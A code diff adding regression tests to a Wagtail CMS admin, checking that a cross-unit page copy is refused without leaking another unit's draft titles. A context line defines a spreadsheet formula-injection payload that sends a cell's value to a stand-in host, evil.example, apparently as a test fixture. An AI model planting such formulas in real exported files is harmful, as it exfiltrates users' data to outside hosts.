@@ -304,6 +304,35 @@ def test_copy_to_a_known_parent_still_copies(client, superuser, page_b, unit_b):
     assert Page.objects.filter(slug="salinan", depth=page_b.depth).exists()
 
 
+def test_copy_to_another_units_page_names_no_draft_title(
+    client, editor_a, unit_a, page_b
+):
+    """Wagtail's refusal named the destination by its draft title, so trying
+    ids in turn listed another unit's unpublished titles."""
+    own = ContentPageFactory(parent=unit_a, title="Halaman A")
+
+    response = client.post(
+        f"/admin/pages/{own.pk}/copy/",
+        {"new_title": "Salinan", "new_slug": "salinan", "new_parent_page": page_b.pk},
+        follow=True,
+    )
+
+    assert SECRET not in response.content.decode()
+    assert not Page.objects.filter(slug="salinan").exists()
+
+
+def test_copy_within_the_own_unit_still_copies(client, editor_a, unit_a):
+    own = ContentPageFactory(parent=unit_a, title="Halaman A")
+
+    response = client.post(
+        f"/admin/pages/{own.pk}/copy/",
+        {"new_title": "Salinan", "new_slug": "salinan", "new_parent_page": unit_a.pk},
+    )
+
+    assert response.status_code == 302
+    assert Page.objects.filter(slug="salinan", depth=own.depth).exists()
+
+
 FORMULA = '=HYPERLINK("http://evil.example/?x="&B2,"Lihat")'
 
 
